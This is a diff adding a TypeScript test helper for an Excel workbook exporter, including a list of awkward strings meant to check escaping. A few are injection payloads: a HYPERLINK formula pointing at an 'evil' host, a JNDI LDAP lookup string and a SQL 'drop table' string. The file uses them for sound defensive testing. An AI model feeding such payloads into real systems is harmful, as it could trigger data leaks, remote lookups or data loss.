@@ -1,0 +1,89 @@
+import {
+  writeWorkbook,
+  EXCEL_LIMITS,
+  type SheetLimits,
+  type WorkbookCounts,
+} from '../../src/exports/workbook.js';
+import type { CoverLine } from '../../src/exports/workbook-shell.js';
+import { ZoneClock } from '../../src/exports/dates.js';
+import type { Sink } from '../../src/exports/files.js';
+import type { Entry } from '../../src/trail/read/entry.js';
+import { batchesOf } from './entries.ts';
+
+/** Texts that spreadsheets, XML or string handling are known to mangle. */
+export const NAUGHTY = [
+  '=1+1',
+  '+1',
+  '-1',
+  '@SUM(A1)',
+  "'quoted",
+  '"double"',
+  '=HYPERLINK("http://evil","x")',
+  '007',
+  '1e5',
+  '12/11',
+  'TRUE',
+  '#REF!',
+  ' leading and trailing ',
+  'tab\there',
+  'line\nbreak',
+  'carriage\r\nreturn',
+  '\n',
+  '<b>&amp;</b>',
+  ']]>',
+  '_x0041_',
+  '_x0041\u0001',
+  '_x0041_x0042_',
+  '__x000D__',
+  '_X0041_',
+  '\u0001\u0008\u000b\u001f',
+  '\u007f\u0085\u00a0\u2028\u2029',
+  '😀👩‍👩‍👧‍👦',
+  'שלום עולם',
+  'ﷺ',
+  'Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮',
+  '\ufeffbom',
+  '${jndi:ldap://x}',
+  "'; drop table entry; --",
+];
+
+/** What was written, in memory. */
+export class MemorySink implements Sink {
+  readonly #chunks: Buffer[] = [];
+
+  write(bytes: Uint8Array): Promise<void> {
+    this.#chunks.push(Buffer.from(bytes));
+    return Promise.resolve();
+  }
+
+  get bytes(): Buffer {
+    return Buffer.concat(this.#chunks);
+  }
+}
+
+/**
+ * The report of these entries as a workbook. The cover has a line that counts them, and those of the options.
+ */
+export async function workbookOf(
+  entries: readonly Entry[],
+  options: {
+    readonly zone?: string;
+    readonly limits?: SheetLimits;
+    readonly cover?: readonly CoverLine[];
+  } = {},
+): Promise<{ file: Buffer; counts: WorkbookCounts }> {
+  const sink = new MemorySink();
+  let counts: WorkbookCounts = { sheets: 0, clipped: 0 };
+  await writeWorkbook({
+    batches: batchesOf(entries),
+    sink,
+    clock: new ZoneClock(options.zone ?? 'UTC'),
+    createdAt: new Date(0),
+    cover: (now) => {
+      counts = now;
+      return [{ label: 'Entries', text: String(entries.length) }, ...(options.cover ?? [])];
+    },
+    limits: options.limits ?? EXCEL_LIMITS,
+  });
+  return { file: sink.bytes, counts };
+}
